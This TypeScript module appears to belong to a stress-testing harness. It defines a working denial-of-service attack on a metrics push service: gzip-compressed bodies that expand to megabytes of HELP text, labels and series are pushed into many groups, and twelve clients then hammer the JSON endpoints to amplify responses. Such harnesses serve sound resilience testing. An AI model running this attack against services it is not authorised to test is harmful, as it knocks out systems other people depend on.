import { gzipSync } from 'node:zlib';
import type { Attack } from '../../attack.ts';
import { Client, swarm } from '../../client/swarm.ts';
import { Tally } from '../../client/tally.ts';

/** Each body is shared by many groups, so that little is sent and much would be answered. */
const BODIES = [
  `# HELP shared_a ${'\u{1f4a3}"\\\\'.repeat(600_000)}\nshared_a 1\n`,
  `# HELP shared_b ${'h'.repeat(5_000_000)}\nshared_b 1\n`,
  `shared_c{${Array.from({ length: 40 }, (_, i) => `label_${i}="${'v'.repeat(50_000)}"`).join(',')}} 1\n`,
  Array.from({ length: 60_000 }, (_, i) => `shared_d{number="${i}"} ${i}\n`).join(''),
];
const GROUPS = 48;

const PATHS = [
  '/api/v1/metrics',
  '/api/v1/groups?families=true&limit=1000',
  '/api/v1/groups?limit=1000',
  '/?limit=1000',
  '/metrics',
];

/** Returns the IDs of the groups that it has made. */
async function fill(client: Client): Promise<string[]> {
  const bodies = BODIES.map((body) => gzipSync(body));
  for (let i = 0; i < GROUPS && !client.signal.aborted; i++) {
    await client.call({
      method: 'PUT',
      path: `/metrics/job/json/n/${i}`,
      headers: { 'content-encoding': 'gzip' },
      body: bodies[i % bodies.length] ?? '',
    });
  }
  const { text } = await client.call({ method: 'GET', path: '/api/v1/groups?limit=100', keep: true });
  return [...text.matchAll(/"id":"([^"]+)"/g)].map(([, id]) => id ?? '');
}

let ids: string[] = [];

export const jsonAnswers: Attack = {
  what: 'groups that share megabytes of HELP, labels and series, and everything that shows them',
  against: 'plain',
  clients: 12,
  prepare: async (target, signal) => {
    ids = await fill(new Client(0, target, signal, new Tally()));
  },
  start: async (target, signal) =>
    swarm(target, signal, async (client) => {
      const first = client.index % 7;
      const groups = ids.slice(first, first + 4).map((id) => `/api/v1/groups/${id}`);
      for (const path of [...PATHS, ...groups]) await client.call({ method: 'GET', path });
    }),
};
